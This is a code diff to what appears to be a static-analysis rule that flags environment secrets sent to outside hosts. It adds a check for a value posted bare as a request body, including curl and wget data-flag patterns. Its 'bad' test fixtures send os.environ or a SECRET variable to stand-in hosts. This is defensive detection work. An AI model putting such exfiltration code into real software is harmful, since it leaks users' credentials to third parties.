@@ -11,12 +11,33 @@ interface Weight {
   readonly confidence: Confidence;
 }
 
+/** Characters of a call in which its body is looked for. */
+const maxCall = 600;
+
 /** A host that nobody answers for: an address without a name, or one known only at run time. */
 const isNameless = (host: string | undefined): boolean => host !== undefined && isBareIp(host);
 
-function weightOfVariable(variable: string, host: string | undefined): Weight | undefined {
+/** A call, or a command, whose body is one name and nothing else. */
+const bareBody = [
+  /\b(?:data|body|content)\s{0,3}[:=]\s{0,3}([A-Za-z_]\w{0,60})\s{0,3}[,)}]/,
+  /\s(?:-d|--data(?:-raw|-binary)?|--post-data)[ =]["']?\$\{?([A-Za-z_]\w{0,60})\}?["']?(?:\s|$)/,
+];
+
+/** True when the value itself is all that is sent: a service takes its key in a header or a field, only a collector takes it bare. */
+function isBare({ source, sink, steps }: Flow): boolean {
+  const call = sink.view.text.slice(sink.start, Math.min(sink.end, sink.start + maxCall));
+  const sent = bareBody.map((body) => body.exec(call)?.[1]).find((name) => name !== undefined);
+  if (sent === undefined) return false;
+  return steps.length === 0
+    ? source.object === `env:${sent}`
+    : steps.every((step) => step.message === `assigned to ${sent}`);
+}
+
+function weightOfVariable(variable: string, flow: Flow): Weight | undefined {
+  const host = hostOf(flow.sink);
   if (variable === "*") return { severity: "critical", confidence: host === undefined ? "low" : "medium" };
   if (host === undefined) return undefined;
+  if (belonging(variable, host) !== "own" && isBare(flow)) return { severity: "critical", confidence: "high" };
   if (belonging(variable, host) === "foreign") return { severity: "critical", confidence: "medium" };
   return isNameless(host) && belonging(variable, host) !== "own"
     ? { severity: "high", confidence: "medium" }
@@ -37,10 +58,11 @@ function weightOfFile({ object, sensitivity }: Operation, host: string | undefin
   return host === undefined ? undefined : { severity: "medium", confidence: "low" };
 }
 
-function weightOf({ source, sink }: Flow): Weight | undefined {
+function weightOf(flow: Flow): Weight | undefined {
+  const { source, sink } = flow;
   const host = hostOf(sink);
   if (host !== undefined && isNear(host)) return undefined;
-  return source.object.startsWith("env:") ? weightOfVariable(source.object.slice(4), host) : weightOfFile(source, host);
+  return source.object.startsWith("env:") ? weightOfVariable(source.object.slice(4), flow) : weightOfFile(source, host);
 }
 
 function matchOf(flow: Flow): Match | undefined {
@@ -86,6 +108,11 @@ export default defineRule({
         path: "collect.py",
         text: 'import json, os, urllib.request\n\nstate = dict(os.environ)\nbody = json.dumps(state).encode()\nreq = urllib.request.Request("https://stats.example.test/v1", data=body)\nurllib.request.urlopen(req)\n',
       },
+      {
+        path: "run.py",
+        text: 'import os, requests\n\nkey = os.environ["SECRET"]\nrequests.post("https://drop.example.test", data=key)\n',
+        line: 4,
+      },
     ],
     good: [
       {
@@ -95,6 +122,10 @@ export default defineRule({
       {
         path: "search.py",
         text: 'import os, requests\n\nrequests.get("https://api.example.com/search", params={"q": "x", "key": os.environ["EXAMPLE_API_KEY"]})\n',
+      },
+      {
+        path: "login.py",
+        text: 'import os, requests\n\nsecret = os.environ["CLIENT_SECRET"]\nbody = {"grant_type": "client_credentials", "client_secret": secret}\nrequests.post("https://login.example.com/token", data=body)\n',
       },
       {
         path: "deploy.py",
